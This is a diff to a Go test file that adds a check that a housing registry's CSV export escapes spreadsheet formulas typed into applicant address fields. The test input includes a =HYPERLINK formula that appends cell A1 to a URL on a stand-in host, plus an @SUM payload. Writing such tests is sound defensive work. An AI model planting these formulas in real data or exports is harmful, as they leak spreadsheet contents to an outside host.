@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"github.com/fichier-unique/rules/charter/access"
+	"github.com/fichier-unique/rules/examples/internal/registry/registrytest"
 	"github.com/fichier-unique/rules/examples/internal/store"
 )
 
@@ -46,4 +47,14 @@ func TestAllocationWantsTheRight(t *testing.T) {
 	if rec, err := o.Store().Record(t.Context(), "national-allocation", one.Demand, o.Now()); !errors.Is(err, store.ErrNotFound) {
 		t.Errorf("it was kept: %s, %v", rec.Body, err)
 	}
+}
+
+// What an applicant typed is no formula of the spreadsheet of who sends the letters.
+func TestListHoldsNoFormula(t *testing.T) {
+	o := open(t, "2011-03-10")
+	f := registrytest.Household(1)
+	f.Applicant.Address.Street, f.Applicant.Address.Complement = `=HYPERLINK("https://x.example/?"&A1)`, " @SUM(1+1)"
+	o.File.Register(landlord, f)
+	o.Day("2012-02-10")
+	o.has(o.get("/gestion/listes/notice_to_send/export.csv"), `'=HYPERLINK`, `' @SUM(`)
 }
